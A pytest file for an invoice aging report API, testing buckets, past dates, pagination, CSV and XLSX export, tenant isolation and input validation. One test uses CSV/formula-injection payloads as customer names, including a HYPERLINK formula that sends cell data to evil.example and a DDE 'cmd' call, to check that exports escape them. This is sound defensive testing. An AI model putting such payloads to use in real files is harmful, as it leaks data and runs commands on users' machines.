"""GET /api/v0/reports/aging (api.md §10 "Aging") through the real API: what a finance user reads, as of today
and as of past days, by due date and by invoice date, in JSON, CSV and XLSX, and the refusals of what it
cannot answer."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from dues.reports.aging import service
from tests.customers.helpers import assert_error, assert_invalid
from tests.payments.helpers import customer
from tests.reports.aging_support import aging, amounts, dated_invoice, dated_payment, day, report
from tests.support import Tenant, TenantFactory

D = Decimal
DEFAULT = ["current", "1-30", "31-60", "61-90", "90+"]


async def _scene(seller: Tenant) -> dict[str, Any]:
    """Customer A: 1,180 dated 100 days ago due 70 days ago; 2,360 dated 20 days ago due 5 days ago, 460 paid
    3 days ago of which 360 on it and 100 left as credit; 590 dated today, due in 30 days. Customer B: 500
    paid yesterday, no invoice: credit. Customer C: nothing."""
    a, b, c = [await customer(seller) for _ in range(3)]
    old = await dated_invoice(seller, a, "1000", dated=-100, due=-70)
    recent = await dated_invoice(seller, a, "2000", dated=-20, due=-5)
    await dated_invoice(seller, a, "500", dated=0, due=30)
    await dated_payment(seller, a, "460", -3, (recent["invoiceId"], "360"))
    await dated_payment(seller, b, "500", -1)
    return {"a": a, "b": b, "c": c, "old": old, "recent": recent}


def _row(*values: str) -> dict[str, Decimal]:
    """Buckets current, 1-30, 31-60, 61-90, 90+, then unappliedCredit; total and net follow from them."""
    *owed, credit = (D(v) for v in values)
    total = sum(owed, D("0.00"))
    return dict(zip(DEFAULT, owed, strict=True)) | {
        "total": total,
        "unappliedCredit": credit,
        "net": total - credit,
    }


async def test_today_by_due_date_per_customer_and_in_total(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    got = await report(tenant)

    assert got["asOf"] == day(0).isoformat() and got["basis"] == "DUE_DATE"
    assert got["buckets"] == DEFAULT
    rows = got["customers"]["items"]
    # Net descending; C owes nothing and holds no credit, so it is not listed.
    assert [r["customerId"] for r in rows] == [scene["a"], scene["b"]]
    assert list(rows[0]) == ["customerId", "customerName", *DEFAULT, "total", "unappliedCredit", "net"]
    assert amounts(rows[0]) == _row("590", "2000", "0", "1180", "0", "100")
    assert amounts(rows[1]) == _row("0", "0", "0", "0", "0", "500")
    assert amounts(got["totals"]) == _row("590", "2000", "0", "1180", "0", "600")
    assert got["customers"]["total"] == 2
    assert rows[0]["customerName"].startswith("Customer ")
    # Money on the wire: JSON numbers with two decimals.
    answer = await aging(tenant)
    assert '"net":3670.00' in answer.text.replace(" ", "")


async def test_a_past_day_counts_only_what_was_dated_by_then(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    four_days_ago = await report(tenant, asOf=day(-4).isoformat())
    three_days_ago = await report(tenant, asOf=day(-3).isoformat())

    # Four days ago: the payment had not come and today's invoice did not exist; the 2,360 was 1 day late.
    [a] = four_days_ago["customers"]["items"]
    assert a["customerId"] == scene["a"]
    assert amounts(a) == _row("0", "2360", "0", "1180", "0", "0")
    # Three days ago the payment counts, B's (yesterday) still does not.
    assert [r["customerId"] for r in three_days_ago["customers"]["items"]] == [scene["a"]]
    assert amounts(three_days_ago["totals"]) == _row("0", "2000", "0", "1180", "0", "100")
    # Before anything at all: nothing owed, no rows.
    empty = await report(tenant, asOf=day(-365).isoformat())
    assert empty["customers"] == {"items": [], "total": 0, "offset": 0, "limit": 100}
    assert amounts(empty["totals"]) == _row("0", "0", "0", "0", "0", "0")


async def test_by_invoice_date_and_with_other_buckets(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    by_invoice_date = await report(tenant, basis="INVOICE_DATE")
    other = await report(tenant, buckets="15,45")

    a = by_invoice_date["customers"]["items"][0]
    assert a["customerId"] == scene["a"]
    # 590 dated today, 2,000 dated 20 days ago, 1,180 dated 100 days ago.
    assert amounts(a) == _row("590", "2000", "0", "0", "1180", "100")
    assert other["buckets"] == ["current", "1-15", "16-45", "45+"]
    a = other["customers"]["items"][0]
    assert amounts(a) == {
        "current": D("590.00"),
        "1-15": D("2000.00"),  # 5 days past due
        "16-45": D("0.00"),
        "45+": D("1180.00"),  # 70 days past due
        "total": D("3770.00"),
        "unappliedCredit": D("100.00"),
        "net": D("3670.00"),
    }


async def test_totals_alone_equal_the_rows_totals(tenant: Tenant) -> None:
    await _scene(tenant)
    for as_of in (day(0), day(-3), day(-4), day(-80)):
        for basis in ("DUE_DATE", "INVOICE_DATE"):
            params = {"asOf": as_of.isoformat(), "basis": basis, "buckets": "10,20,40,80,160"}
            alone = await report(tenant, groupBy="NONE", **params)
            rows = await report(tenant, **params)
            assert alone["customers"] is None
            assert alone["totals"] == rows["totals"], params
            summed = {
                k: sum((amounts(r)[k] for r in rows["customers"]["items"]), D("0.00"))
                for k in alone["totals"]
            }
            assert summed == amounts(alone["totals"]), params


async def test_customer_ids_pick_customers_and_their_totals(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    comma = await report(tenant, customerIds=f"{scene['c']},{scene['b']}")
    repeated = await aging(tenant, customerIds=[scene["b"], scene["c"], scene["b"]])
    alone = await report(tenant, customerIds=scene["b"], groupBy="NONE")

    # Every customer named is listed, C with nothing owed too.
    assert [r["customerId"] for r in comma["customers"]["items"]] == [scene["c"], scene["b"]]
    assert amounts(comma["customers"]["items"][0]) == _row("0", "0", "0", "0", "0", "0")
    assert amounts(comma["totals"]) == _row("0", "0", "0", "0", "0", "500")
    assert repeated.json()["payload"]["customers"]["total"] == 2
    assert amounts(alone["totals"]) == _row("0", "0", "0", "0", "0", "500")


async def test_pages_hold_the_customers_in_net_order(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    first = await report(tenant, limit=1)
    second = await report(tenant, limit=1, offset=1)
    beyond = await report(tenant, limit=1, offset=2)

    assert [r["customerId"] for r in first["customers"]["items"]] == [scene["a"]]
    assert [r["customerId"] for r in second["customers"]["items"]] == [scene["b"]]
    assert second["customers"]["total"] == 2 and (
        second["customers"]["offset"],
        second["customers"]["limit"],
    ) == (
        1,
        1,
    )
    assert beyond["customers"]["items"] == []
    # The totals are the whole report's on every page.
    assert first["totals"] == second["totals"] == beyond["totals"]


async def test_csv_holds_every_customer_and_the_total(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    answer = await aging(tenant, format="csv", asOf=day(-1).isoformat())

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="aging-{day(-1).isoformat()}.csv"'
    assert answer.content.startswith("\ufeff".encode())
    header, *rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert header == ["customerId", "customerName", *DEFAULT, "total", "unappliedCredit", "net"]
    assert [r[0] for r in rows] == [scene["a"], scene["b"], ""]
    assert rows[0][2:] == ["0.00", "2000.00", "0.00", "1180.00", "0.00", "3180.00", "100.00", "3080.00"]
    assert rows[1][2:] == ["0.00", "0.00", "0.00", "0.00", "0.00", "0.00", "500.00", "-500.00"]
    assert rows[2][1:] == [
        "Total",
        "0.00",
        "2000.00",
        "0.00",
        "1180.00",
        "0.00",
        "3180.00",
        "600.00",
        "2580.00",
    ]


async def test_xlsx_has_numeric_cells_with_two_decimals(tenant: Tenant) -> None:
    scene = await _scene(tenant)

    answer = await aging(tenant, format="xlsx", basis="INVOICE_DATE")

    assert answer.status_code == 200, answer.text
    assert (
        answer.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert answer.headers["content-disposition"] == f'attachment; filename="aging-{day(0).isoformat()}.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["customerId", "customerName", *DEFAULT, "total", "unappliedCredit", "net"]
    assert [v[0] for v in values[1:]] == [scene["a"], scene["b"], None]
    assert values[3][1] == "Total"
    assert values[1][2:] == [590, 2000, 0, 0, 1180, 3770, 100, 3670]
    amount = sheet.cell(row=2, column=3)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"
    assert sheet.cell(row=3, column=10).value == -500


async def test_groupby_none_as_a_file_is_the_total_row(tenant: Tenant) -> None:
    await _scene(tenant)

    answer = await aging(tenant, format="csv", groupBy="NONE")

    _, *rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows == [
        ["", "Total", "590.00", "2000.00", "0.00", "1180.00", "0.00", "3770.00", "600.00", "3170.00"]
    ]


async def test_files_are_written_a_chunk_at_a_time_in_order(
    tenant: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    buyers = [await customer(tenant) for _ in range(5)]
    for n, buyer in enumerate(buyers):
        await dated_invoice(tenant, buyer, str(100 * (n + 1)), dated=-10, due=-n)
    monkeypatch.setattr(service, "CHUNK", 2)

    answer = await aging(tenant, format="csv")
    sheet = openpyxl.load_workbook(io.BytesIO((await aging(tenant, format="xlsx")).content)).worksheets[0]

    _, *rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [r[0] for r in rows] == [*reversed(buyers), ""]
    assert rows[-1][-1] == "1770.00"  # 118 + 236 + 354 + 472 + 590
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [*reversed(buyers), None]


async def test_names_that_look_like_formulas_stay_text(tenant: Tenant) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    for name in hostile:
        buyer = (await tenant.create_customer(legalName=name))["customerId"]
        await dated_invoice(tenant, buyer, "100", dated=-1, due=0)

    text = (await aging(tenant, format="csv")).content.decode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO((await aging(tenant, format="xlsx")).content))

    names = [r[1] for r in list(csv.reader(io.StringIO(text)))[1:-1]]
    assert sorted(names) == sorted("'" + n for n in hostile)
    cells = [row[1] for row in book.worksheets[0].iter_rows(min_row=2) if row[0].value]
    assert sorted(c.value for c in cells) == sorted("'" + n for n in hostile)
    assert {c.data_type for c in cells} == {"s"}


async def test_any_user_of_the_company_may_read_it(tenant: Tenant, tenants: TenantFactory) -> None:
    await _scene(tenant)
    viewer = await tenants.user(tenant, "VIEWER")

    assert (await report(viewer))["totals"] == (await report(tenant))["totals"]
    anonymous = await tenant.http.get("/api/v0/reports/aging")
    assert_error(anonymous, 401, "UNAUTHORIZED")


async def test_another_companys_customers_are_neither_counted_nor_named(
    tenant: Tenant, tenants: TenantFactory
) -> None:
    scene = await _scene(tenant)
    other = await tenants.create("Other Seller Pvt Ltd")

    theirs = await report(other)
    named = await aging(other, customerIds=scene["a"])

    assert theirs["customers"]["items"] == [] and amounts(theirs["totals"])["net"] == 0
    subs = assert_invalid(named, "customerIds")
    assert subs["customerIds"]["rejectedValue"] == scene["a"]
    assert scene["a"] in named.json()["errorResponse"]["errorMessage"]
    assert named.json()["errorResponse"]["errorMessage"].startswith("customerIds: no such customer")
    unknown = "KC" + "Z" * 14
    both = await aging(tenant, customerIds=f"{scene['b']},{unknown}")
    assert [s["rejectedValue"] for s in both.json()["errorResponse"]["apiSubErrors"]] == [unknown]


@pytest.mark.parametrize(
    ("params", "field", "words"),
    [
        ({"buckets": "60,30"}, "buckets", "larger than the one before"),
        ({"buckets": "30,30"}, "buckets", "larger than the one before"),
        ({"buckets": "abc"}, "buckets", "whole numbers of days"),
        ({"buckets": "0,30"}, "buckets", "whole numbers of days"),
        ({"buckets": "30,,60"}, "buckets", "whole numbers of days"),
        ({"buckets": "-30"}, "buckets", "whole numbers of days"),
        ({"buckets": "30.5"}, "buckets", "whole numbers of days"),
        ({"buckets": "1,2,3,4,5,6,7"}, "buckets", "1 to 6"),
        ({"buckets": "30,3651"}, "buckets", "3650"),
        ({"asOf": "2026-13-01"}, "asOf", "yyyy-MM-dd"),
        ({"asOf": "yesterday"}, "asOf", "yyyy-MM-dd"),
        ({"asOf": "20261201"}, "asOf", "yyyy-MM-dd"),
        ({"basis": "DUE"}, "basis", "DUE_DATE"),
        ({"groupBy": "MONTH"}, "groupBy", "CUSTOMER"),
        ({"format": "pdf"}, "format", "csv"),
        ({"limit": "0"}, "limit", "1"),
        ({"customerIds": "KC123"}, "customerIds", "not a customer id"),
    ],
)
async def test_bad_parameters_are_refused_by_name(
    tenant: Tenant, params: dict[str, str], field: str, words: str
) -> None:
    answer = await aging(tenant, **params)

    subs = assert_invalid(answer, field)
    assert words in subs[field]["message"], subs


async def test_a_future_day_is_refused_and_problems_are_told_together(tenant: Tenant) -> None:
    tomorrow = await aging(tenant, asOf=day(1).isoformat())
    both = await aging(tenant, asOf="someday", buckets="90,60")

    subs = assert_invalid(tomorrow, "asOf")
    assert "in the future" in subs["asOf"]["message"] and day(0).isoformat() in subs["asOf"]["message"]
    assert_invalid(both, "asOf", "buckets")


async def test_too_many_customer_ids_are_refused(tenant: Tenant) -> None:
    ids = ",".join(f"KC{n:014d}" for n in range(service.MAX_CUSTOMERS + 1))

    answer = await aging(tenant, customerIds=ids)

    subs = assert_invalid(answer, "customerIds")
    assert "at most 1000" in subs["customerIds"]["message"]
